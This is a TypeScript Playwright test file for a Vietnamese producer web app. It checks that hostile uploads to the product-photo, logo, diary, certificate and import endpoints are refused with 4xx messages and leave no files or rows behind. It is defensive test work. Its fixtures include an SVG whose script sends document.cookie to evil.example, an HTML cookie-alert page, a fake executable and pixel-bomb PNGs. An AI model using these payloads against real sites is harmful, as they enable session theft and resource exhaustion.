// Hostile uploads through the real HTTP endpoints (multipart, as a browser sends them): product
// photos, the producer's logo, a diary event's photo, a certificate's scan and the product import.
// Each bad file (pixel bomb, an executable or an SVG with a script renamed as a picture, a truncated
// JPEG, an oversized file, too many files, a body announced as huge) gets a 4xx with a message the
// producer can act on, never a 5xx, and leaves nothing behind: no row, no file on disk.
import { createConnection } from "node:net";
import { readdirSync } from "node:fs";
import path from "node:path";
import { deflateSync } from "node:zlib";
import type { APIRequestContext, APIResponse } from "@playwright/test";
import sharp from "sharp";
import { e2eDirs } from "../../../playwright.config";
import {
  expect,
  http,
  locationOf,
  messagePattern,
  newClient,
  newUser,
  signUpByHttp,
  test,
  textOf,
  vi,
  type Session,
} from "../support";

test.describe.configure({ mode: "serial" });

// ---------------------------------------------------------------------------------------------
// Hostile files

function pngChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length, 0);
  head.write(type, 4, "ascii");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), body])), 0);
  return Buffer.concat([head, body, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

/** A PNG of side × side 1-bit grey pixels, all black: tiny on disk, huge once decoded. */
function pixelBomb(side: number, { declaredOnly = false } = {}): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale
  // The declared-only bomb stops after one row: the header alone must be enough to refuse it.
  const rows = Buffer.alloc((1 + Math.ceil(side / 8)) * (declaredOnly ? 1 : side));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

const EXE = Buffer.concat([
  Buffer.from("4d5a90000300000004000000ffff0000b800000000000000400000000000000000", "hex"),
  Buffer.from("This program cannot be run in DOS mode.\r\r\n$"),
  Buffer.alloc(4096, 0x90),
]);

const SVG = Buffer.from(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)">` +
    `<script>fetch('https://evil.example/?c='+document.cookie)</script><rect width="800" height="600"/></svg>`,
);

const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");

/** A photo-like JPEG (noise, so every byte matters), 800 × 600, distinct per seed. */
async function noiseJpeg(seed: number): Promise<Buffer> {
  const pixels = Buffer.alloc(800 * 600 * 3);
  let x = seed * 2654435761;
  for (let i = 0; i < pixels.length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    pixels[i] = x >>> 24;
  }
  return sharp(pixels, { raw: { width: 800, height: 600, channels: 3 } })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/** Past every per-file limit (15 MB photos, 10 MB scans, 5 MB imports), starting like a JPEG. */
function oversized(megabytes: number): Buffer {
  const big = Buffer.alloc(megabytes * 1024 * 1024, 7);
  big.set([0xff, 0xd8, 0xff, 0xe0]);
  return big;
}

interface Upload {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

// ---------------------------------------------------------------------------------------------
// A producer of this run's own (sign-up, business, product, batch), so nothing demo is touched

interface Workspace {
  client: APIRequestContext;
  origin: string;
  session: Session;
  producer: string;
  product: string;
  batch: string;
}

let workspace: Workspace | undefined;

async function ownWorkspace(baseURL: string): Promise<Workspace> {
  if (workspace) return workspace;
  const client = await newClient(baseURL);
  const session = await signUpByHttp(client, newUser(), "PRODUCER");
  const post = async (url: string, form: Record<string, string>) => {
    const response = await http(client, "POST", url, { cookie: session.cookie, form });
    expect(response.status(), `POST ${url}`).toBe(302);
    return locationOf(response);
  };
  const producer = (
    await post("/producer/new", {
      kind: "COOPERATIVE",
      name: `HTX Thử tải lên ${Date.now().toString(36)}`,
      communeCode: "24670",
    })
  ).split("/")[2]!;
  const product = (
    await post(`/producer/${producer}/products/new`, {
      name: "Cà phê thử tải lên",
      ocopGroup: "FOOD",
      unit: "gói 500 g",
      priceVnd: "150000",
    })
  ).split("/")[4]!;
  const batch = (
    await post(`/producer/${producer}/products/${product}/batches`, { lotNumber: "UP2026-01" })
  ).split("/")[6]!;
  expect([producer, product, batch].every((id) => /^[0-9a-f-]{36}$/.test(id))).toBe(true);
  workspace = { client, origin: new URL(baseURL).origin, session, producer, product, batch };
  return workspace;
}

test.afterAll(async () => {
  await workspace?.client.dispose();
  workspace = undefined;
});

/** Every file the servers keep: public variants (this server's MEDIA_DIR), private originals and scans. */
function storedFiles(): string[] {
  const server = test.info().project.name.replace(/^http-/, "");
  const dirs = [path.join(e2eDirs.media, server), "data/originals", "data/documents"];
  return dirs.flatMap((dir) => listFiles(dir));
}

function listFiles(dir: string): string[] {
  try {
    return readdirSync(dir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => path.join(entry.parentPath, entry.name));
  } catch {
    return [];
  }
}

async function postFiles(
  ws: Workspace,
  url: string,
  fields: Record<string, string>,
  files: Record<string, Upload[]>,
): Promise<APIResponse> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const [name, list] of Object.entries(files))
    for (const file of list)
      form.append(name, new Blob([new Uint8Array(file.buffer)], { type: file.mimeType }), file.name);
  const response = await ws.client.fetch(url, {
    method: "POST",
    multipart: form,
    headers: { Cookie: ws.session.cookie, Origin: ws.origin },
    maxRedirects: 0,
  });
  expect(response.status(), `POST ${url} must never answer 5xx`).toBeLessThan(500);
  return response;
}

async function pageText(ws: Workspace, url: string): Promise<string> {
  const response = await http(ws.client, "GET", url, { cookie: ws.session.cookie });
  expect(response.status(), url).toBe(200);
  return textOf(response);
}

/** The photo ids listed on the product's photos page. */
async function photoIds(ws: Workspace): Promise<string[]> {
  const response = await http(ws.client, "GET", `/producer/${ws.producer}/products/${ws.product}/photos`, {
    cookie: ws.session.cookie,
  });
  const html = await response.text();
  return [...new Set([...html.matchAll(/name="photoId" value="([0-9a-f-]{36})"/g)].map((m) => m[1]!))];
}

const photoError = (key: keyof typeof vi.photos.errors) => messagePattern(vi.photos.errors[key]);

// ---------------------------------------------------------------------------------------------

interface BadFile {
  what: string;
  file: () => Promise<Upload> | Upload;
  status: number;
  message: RegExp;
}

const BAD_PHOTOS: BadFile[] = [
  {
    what: "a PNG declaring 50000 × 50000 pixels",
    file: () => ({
      name: "bom-khai.png",
      mimeType: "image/png",
      buffer: pixelBomb(50_000, { declaredOnly: true }),
    }),
    status: 422,
    message: photoError("tooManyPixels"),
  },
  {
    what: "a real 10000 × 10000 PNG (100 megapixels, 20 KB on disk)",
    file: () => ({ name: "bom-that.png", mimeType: "image/png", buffer: pixelBomb(10_000) }),
    status: 422,
    message: photoError("tooManyPixels"),
  },
  {
    what: "a Windows program renamed .jpg",
    file: () => ({ name: "anh.jpg", mimeType: "image/jpeg", buffer: EXE }),
    status: 415,
    message: photoError("unsupportedType"),
  },
  {
    what: "an SVG carrying a script",
    file: () => ({ name: "logo.svg", mimeType: "image/svg+xml", buffer: SVG }),
    status: 415,
    message: photoError("unsupportedType"),
  },
  {
    what: "the same SVG renamed .png",
    file: () => ({ name: "logo.png", mimeType: "image/png", buffer: SVG }),
    status: 415,
    message: photoError("unsupportedType"),
  },
  {
    what: "an HTML page renamed .jpg",
    file: () => ({ name: "trang.jpg", mimeType: "image/jpeg", buffer: HTML }),
    status: 415,
    message: photoError("unsupportedType"),
  },
  {
    what: "a truncated JPEG",
    file: async () => {
      const whole = await noiseJpeg(1);
      return {
        name: "dut.jpg",
        mimeType: "image/jpeg",
        buffer: whole.subarray(0, Math.floor(whole.length * 0.6)),
      };
    },
    status: 422,
    message: photoError("corrupt"),
  },
  {
    what: "a 16 MB file",
    file: () => ({ name: "to.jpg", mimeType: "image/jpeg", buffer: oversized(16) }),
    status: 413,
    message: photoError("tooLarge"),
  },
];

test.describe("product photos", () => {
  for (const bad of BAD_PHOTOS) {
    test(`${bad.what}: ${bad.status} with a message; no photo, no file`, async ({ baseURL }) => {
      const ws = await ownWorkspace(baseURL!);
      const files = storedFiles();
      const response = await postFiles(
        ws,
        `/producer/${ws.producer}/products/${ws.product}/photos`,
        { intent: "upload" },
        {
          photos: [await bad.file()],
        },
      );
      expect(response.status()).toBe(bad.status);
      expect(await textOf(response)).toMatch(bad.message);
      expect(await photoIds(ws)).toEqual([]);
      expect(storedFiles()).toEqual(files);
    });
  }

  test("nine photos at once: the ninth is refused by name (422), never more than eight kept", async ({
    baseURL,
  }) => {
    const ws = await ownWorkspace(baseURL!);
    const nine = await Promise.all(
      Array.from({ length: 9 }, async (_, i) => ({
        name: `anh-${i + 1}.jpg`,
        mimeType: "image/jpeg",
        buffer: await sharp(await noiseJpeg(100 + i))
          .resize(400)
          .jpeg()
          .toBuffer(),
      })),
    );
    const response = await postFiles(
      ws,
      `/producer/${ws.producer}/products/${ws.product}/photos`,
      { intent: "upload" },
      {
        photos: nine,
      },
    );
    expect(response.status()).toBe(422);
    const text = await textOf(response);
    expect(text).toContain(vi.photos.errors.limit.replace("{{name}}", "anh-9.jpg").replace("{{max}}", "8"));
    expect(await photoIds(ws)).toHaveLength(8);

    // Full now: one more is refused, and nothing is written for it.
    const files = storedFiles();
    const tenth = await postFiles(
      ws,
      `/producer/${ws.producer}/products/${ws.product}/photos`,
      { intent: "upload" },
      {
        photos: [{ name: "anh-10.jpg", mimeType: "image/jpeg", buffer: await noiseJpeg(110) }],
      },
    );
    expect(tenth.status()).toBe(422);
    expect(await textOf(tenth)).toMatch(photoError("limit"));
    expect(await photoIds(ws)).toHaveLength(8);
    expect(storedFiles()).toEqual(files);
  });

  test("a body announced as 300 MB is refused (413) before it is read", async ({ baseURL }) => {
    const ws = await ownWorkspace(baseURL!);
    const { status, body } = await announceHugeBody(
      baseURL!,
      `/producer/${ws.producer}/products/${ws.product}/photos`,
      ws.session.cookie,
    );
    expect(status).toBe(413);
    expect(body).toMatch(photoError("requestTooLarge"));
  });
});

test.describe("logo, diary photo, certificate scan, import", () => {
  test("the producer's logo refuses each bad file with a message and keeps no logo", async ({ baseURL }) => {
    const ws = await ownWorkspace(baseURL!);
    for (const bad of BAD_PHOTOS) {
      const files = storedFiles();
      const response = await postFiles(
        ws,
        `/producer/${ws.producer}/profile`,
        { intent: "logo" },
        {
          logo: [await bad.file()],
        },
      );
      expect(response.status(), bad.what).toBe(bad.status);
      expect(await textOf(response), bad.what).toMatch(bad.message);
      expect(storedFiles(), bad.what).toEqual(files);
    }
    const dashboard = await http(ws.client, "GET", `/producer/${ws.producer}`, { cookie: ws.session.cookie });
    expect(await dashboard.text()).not.toContain('class="logo"');
  });

  test("a diary event with a bad photo is not recorded, and keeps no file", async ({ baseURL }) => {
    const ws = await ownWorkspace(baseURL!);
    const url = `/producer/${ws.producer}/products/${ws.product}/batches/${ws.batch}`;
    for (const [n, bad] of BAD_PHOTOS.entries()) {
      const note = `Ghi chú thử tải lên số ${n + 1}`;
      const files = storedFiles();
      const response = await postFiles(
        ws,
        url,
        { kind: "PLANTING", occurredAt: "2026-03-01T07:00", note },
        {
          photo: [await bad.file()],
        },
      );
      expect(response.status(), bad.what).toBe(bad.status);
      expect(await textOf(response), bad.what).toMatch(bad.message);
      expect(storedFiles(), bad.what).toEqual(files);
      expect(await pageText(ws, url), `${bad.what}: no event`).not.toContain(note);
    }
  });

  test("a certificate with a bad scan is not created, and keeps no file", async ({ baseURL }) => {
    const ws = await ownWorkspace(baseURL!);
    const url = `/producer/${ws.producer}/products/${ws.product}/certificates`;
    const scans: { what: string; file: Upload; status: number; message: string }[] = [
      {
        what: "a program renamed .pdf",
        file: { name: "qd.pdf", mimeType: "application/pdf", buffer: EXE },
        status: 415,
        message: vi.certificates.errors.fileType,
      },
      {
        what: "an SVG with a script",
        file: { name: "qd.svg", mimeType: "image/svg+xml", buffer: SVG },
        status: 415,
        message: vi.certificates.errors.fileType,
      },
      {
        what: "an HTML page renamed .pdf",
        file: { name: "qd.pdf", mimeType: "application/pdf", buffer: HTML },
        status: 415,
        message: vi.certificates.errors.fileType,
      },
      {
        what: "an 11 MB scan",
        file: { name: "qd.jpg", mimeType: "image/jpeg", buffer: oversized(11) },
        status: 413,
        message: vi.certificates.errors.fileTooLarge,
      },
    ];
    for (const [n, scan] of scans.entries()) {
      const number = `${n + 1}/QĐ-THU-TAI-LEN`;
      const files = storedFiles();
      // Posted where the browser posts it: the chosen kind's form, which shows the error.
      const response = await postFiles(
        ws,
        `${url}?kind=VIETGAP`,
        {
          intent: "create",
          kind: "VIETGAP",
          number,
          issuer: "Trung tâm Chứng nhận Thử",
          issuedOn: "2026-01-15",
        },
        { document: [scan.file] },
      );
      expect(response.status(), scan.what).toBe(scan.status);
      expect(await textOf(response), scan.what).toContain(scan.message);
      expect(storedFiles(), scan.what).toEqual(files);
      expect(await pageText(ws, url), `${scan.what}: no certificate`).not.toContain(number);
    }
  });

  test("an import of a bad file is refused with a message and starts no job", async ({ baseURL }) => {
    const ws = await ownWorkspace(baseURL!);
    const url = `/producer/${ws.producer}/import`;
    const files: { what: string; file: Upload }[] = [
      {
        what: "a program renamed .xlsx",
        file: {
          name: "sp-exe.xlsx",
          mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
          buffer: EXE,
        },
      },
      { what: "an SVG renamed .csv", file: { name: "sp-svg.csv", mimeType: "text/csv", buffer: SVG } },
      { what: "a 6 MB file", file: { name: "sp-to.csv", mimeType: "text/csv", buffer: oversized(6) } },
      { what: "an empty file", file: { name: "sp-rong.csv", mimeType: "text/csv", buffer: Buffer.alloc(0) } },
    ];
    const messages = Object.values(vi.imports.errors).map((m) => messagePattern(m));
    for (const bad of files) {
      const response = await postFiles(ws, url, {}, { file: [bad.file] });
      expect(response.status(), bad.what).toBeGreaterThanOrEqual(400);
      const text = await textOf(response);
      expect(
        messages.some((m) => m.test(text)),
        `${bad.what}: one of the import's messages`,
      ).toBe(true);
      expect(await pageText(ws, url), `${bad.what}: no job`).not.toContain(bad.file.name);
    }
  });
});

/** Sends only the head of a request whose Content-Length says 300 MB; returns the answer. */
function announceHugeBody(
  baseURL: string,
  url: string,
  cookie: string,
): Promise<{ status: number; body: string }> {
  const { hostname, port, origin } = new URL(baseURL);
  return new Promise((resolve, reject) => {
    const socket = createConnection({
      host: hostname === "localhost" ? "127.0.0.1" : hostname,
      port: Number(port),
    });
    let received = "";
    socket.setTimeout(15_000, () => {
      socket.destroy();
      reject(new Error(`no answer to a 300 MB announcement: ${received.slice(0, 200)}`));
    });
    socket.on("connect", () => {
      socket.write(
        [
          `POST ${url} HTTP/1.1`,
          `Host: ${new URL(baseURL).host}`,
          `Origin: ${origin}`,
          `Cookie: ${cookie}`,
          "Content-Type: multipart/form-data; boundary=----x",
          `Content-Length: ${300 * 1024 * 1024}`,
          "Connection: close",
          "",
          '------x\r\nContent-Disposition: form-data; name="intent"\r\n\r\nupload\r\n',
        ].join("\r\n"),
      );
    });
    socket.on("data", (chunk) => {
      received += chunk.toString("utf8");
      const head = /^HTTP\/1\.1 (\d{3})/.exec(received);
      if (head && /<\/html>\s*$/i.test(received)) {
        socket.destroy();
        resolve({ status: Number(head[1]), body: received });
      }
    });
    socket.on("close", () => {
      const head = /^HTTP\/1\.1 (\d{3})/.exec(received);
      if (head) resolve({ status: Number(head[1]), body: received });
      else reject(new Error("connection closed without an answer"));
    });
    socket.on("error", reject);
  });
}
